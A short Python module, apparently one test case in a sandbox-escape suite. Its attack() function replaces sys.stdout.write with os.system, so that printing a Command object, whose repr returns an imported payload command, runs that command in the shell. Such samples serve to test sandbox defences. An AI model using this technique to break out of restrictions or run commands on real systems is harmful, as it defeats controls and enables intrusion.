"""A C function is write() of the standard output itself."""
CATEGORY = "borrowed"
REACH = "run"

import os
import sys

from . import payload


class Command:
    def __repr__(self):
        return payload.COMMAND


def attack():
    sys.stdout.write = os.system
